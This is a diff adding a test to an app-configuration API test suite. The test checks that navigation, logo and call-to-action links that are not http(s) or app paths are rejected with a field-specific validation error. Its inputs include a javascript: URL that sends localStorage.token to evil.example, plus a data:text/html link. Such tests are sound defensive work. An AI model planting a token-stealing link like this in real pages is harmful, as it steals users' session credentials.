@@ -212,5 +212,39 @@ describe.each(BACKENDS)('sirqul config (%s)', (backend) => {
       }
       expect((await getConfig()).item.appName).toBe('Canopy');
     });
+
+    it('refuses a link that is not http(s) or a path of this app, naming the field', async () => {
+      const { headers } = await signIn(t.app, OPERATOR);
+      const nav = structuredClone(changed.web_main_navigation);
+      nav.items[0]!.linkto = 'javascript:fetch("//evil.example/?"+localStorage.token)';
+      for (const [payload, field] of [
+        [{ ...changed, web_main_navigation: nav }, 'body/web_main_navigation/items/0/linkto'],
+        [
+          {
+            ...changed,
+            onboardingSettings: {
+              desktopNavLogoUrl: '//evil.example/logo.svg',
+              webFaviconUrl: '/media/favicon.svg',
+            },
+          },
+          'body/onboardingSettings/desktopNavLogoUrl',
+        ],
+        [{ ...changed, cta: { ctaLink: 'data:text/html,<form>' } }, 'body/cta/ctaLink'],
+      ] as const) {
+        const response = await t.app.inject({
+          method: 'PUT',
+          url: '/api/sirqul/appconfig',
+          headers,
+          payload,
+        });
+        expect(response.statusCode, field).toBe(400);
+        expect(response.json()).toEqual({
+          valid: false,
+          message: `${field} must be an http(s) URL or a path of this app starting with / or #/.`,
+          errorCode: 'VALIDATION_ERROR',
+        });
+      }
+      expect((await getConfig()).item.appName).toBe('Canopy');
+    });
   });
 });
